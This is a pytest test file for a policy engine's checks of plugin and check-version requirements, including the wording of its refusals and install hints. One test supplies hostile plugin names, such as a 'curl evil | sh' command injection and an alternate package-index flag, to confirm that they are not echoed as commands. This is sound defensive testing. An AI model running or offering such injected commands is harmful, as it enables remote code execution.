"""What a plan requires of an engine: the very versions, or a refusal that says what to install."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from govern.policy.interface import CheckSpec, PluginOrigin
from govern.policy.requires import kinds_required, unavailable
from support.compiling import specs
from support.plugins import ORIGIN, WEIGHT, offer, registry, spoiled


def plan(checks: Any, plugins: Any = None) -> dict[str, Any]:
    requires = {"ast": 1, "checks": checks}
    return {"requires": requires if plugins is None else requires | {"plugins": plugins}}


SOUND = plan({"acme.weight": 3, "lineage.closed": 1}, {"acme.weight": str(ORIGIN)})


def test_what_a_plan_requires_is_here_where_it_was_made() -> None:
    checks = registry(offer()).specs
    used: list[CheckSpec] = [checks["lineage.closed"], checks["acme.weight"]]
    assert plan({}) | {"requires": {"ast": 1, **kinds_required(used)}} == SOUND
    assert unavailable(SOUND, checks) == ()
    assert "plugins" not in kinds_required([specs()["lineage.closed"]])


@pytest.mark.parametrize(
    ("wanted", "words", "fix"),
    [
        (plan({"lineage.closed": 2}), "lineage.closed in version 2; this engine has version 1", "govern"),
        (plan({"lineage.clsed": 1}), "which is not known here", "version of govern"),
        (
            plan({"acme.height": 1}, {"acme.height": "acme==9"}),
            "acme==9, which is not installed",
            "pip install acme==9",
        ),
        (
            plan({"acme.weight": 4}, {"acme.weight": str(ORIGIN)}),
            "this engine has version 3",
            "pip install acme-checks",
        ),
        (plan({"acme.weight": 3}, {"acme.weight": "acme-checks==1.1"}), "the one here is of acme-checks==1.2.0", "1.1"),
        (plan({"acme.weight": 3}), "the one here is of acme-checks==1.2.0", "version of govern"),
        (plan({"lineage.closed": 1}, {"lineage.closed": "x==1"}), "the one here is built in", "pip install x==1"),
    ],
)
def test_another_version_is_refused_by_name(wanted: dict[str, Any], words: str, fix: str) -> None:
    (fault,) = unavailable(wanted, registry(offer()).specs)
    assert fault.code == "P602"
    assert words in fault.message
    assert fix in str(fault.hint)


@pytest.mark.parametrize(
    "name", ["x; curl evil | sh", "--index-url=http://x y", "acme", "a==1\n b", "a==1 b", 7, ["a==1"]]
)
def test_what_a_plan_says_is_no_command_to_paste(name: Any) -> None:
    """A pack may come from anybody."""
    (fault,) = unavailable(plan({"acme.height": 1}, {"acme.height": name}), registry(offer()).specs)
    assert fault.code == "P602"
    assert fault.hint == "Install that very version, from a source that you trust."


def test_a_plugin_that_cannot_be_used_here_is_refused_with_its_reason() -> None:
    (fault,) = unavailable(SOUND, registry(offer(spoiled(summary=""))).specs)
    assert fault.code == "P602"
    assert "it has no summary" in fault.message


def test_every_kind_that_is_missing_is_named() -> None:
    wanted = plan({"a.b": 1, "c.d": 2, "lineage.closed": 7})
    assert [item.code for item in unavailable(wanted, specs())] == ["P602"] * 3


@pytest.mark.parametrize("document", [{}, {"requires": None}, {"requires": {"checks": []}}, {"requires": []}])
def test_what_is_no_plan_asks_for_nothing(document: dict[str, Any]) -> None:
    """It is compared with the plan that comes out, and differs."""
    assert unavailable(document, specs()) == ()


def test_another_release_of_the_plugin_is_another_requirement() -> None:
    newer = replace(WEIGHT.spec, plugin=PluginOrigin(ORIGIN.distribution, "1.3.0"))
    (fault,) = unavailable(SOUND, {**specs(), "acme.weight": newer})
    assert "the one here is of acme-checks==1.3.0" in fault.message
